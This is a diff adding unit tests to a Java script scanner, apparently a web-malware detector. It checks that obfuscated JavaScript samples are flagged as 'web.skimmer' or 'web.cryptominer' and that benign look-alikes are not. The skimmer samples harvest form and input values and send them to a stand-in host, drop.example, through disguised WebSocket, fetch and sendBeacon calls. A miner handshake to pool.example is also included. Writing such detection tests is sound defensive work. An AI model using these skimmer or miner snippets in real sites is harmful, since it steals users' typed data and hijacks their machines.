@@ -58,6 +58,31 @@ class ScriptScannerTest {
   }
 
   @Test
+  void sendersReachedIndirectlyAndKeyloggers() {
+    assertThat(checks("var W=window['Web'+'Socket'];f.onsubmit=function(){var o={};for(var i=0;i<f.elements.length;i++)"
+        + "{o[f.elements[i].name]=f.elements[i].value}var s=new W('wss://drop.example/ws');s.send(JSON.stringify(o))}"))
+        .contains("web.skimmer");
+    assertThat(checks("var h=['example','drop'].reverse().join('.');document.addEventListener('change',function(){var d={};"
+        + "document.querySelectorAll('input').forEach(function(i){d[i.name]=i.value});Reflect.apply(fetch,window,"
+        + "['https://'+h+'/o',{method:'POST',body:JSON.stringify(d)}])})")).contains("web.skimmer");
+    assertThat(checks("var h=`${'dr'}${'op'}.${'example'}`;document.addEventListener('input',function(e){k+=e.target.name+"
+        + "'='+e.target.value});addEventListener('pagehide',function(){navigator.sendBeacon(`https://${h}/b`,k)})"))
+        .contains("web.skimmer");
+    // one field looked up as it is typed is not a keylogger
+    assertThat(checks("document.getElementById('zip').addEventListener('input',function(e){fetch('https://zip.example/'+"
+        + "e.target.value)})")).doesNotContain("web.skimmer");
+  }
+
+  @Test
+  void coinhiveProtocolClones() {
+    assertThat(checks("var w=new WebSocket('wss://pool.example:8443');w.onopen=function(){w.send(JSON.stringify({type:'auth',"
+        + "params:{site_key:'k',threads:navigator.hardwareConcurrency}}))};w.onmessage=function(m){if(JSON.parse(m.data).type"
+        + "==='job'){}}")).contains("web.cryptominer");
+    assertThat(checks("var w=new WebSocket('wss://chat.example/');w.send(JSON.stringify({type:'auth',token:t}))"))
+        .doesNotContain("web.cryptominer");
+  }
+
+  @Test
   void librariesWithLicenceUrlsAreNotSkimmers() {
     String lib = "/*! Library v1 | (c) Someone | https://github.com/someone/lib */!function(e){var t=new XMLHttpRequest;"
         + "e.fn.val=function(){return this[0].value};t.open('GET',e.url);JSON.stringify(e);"
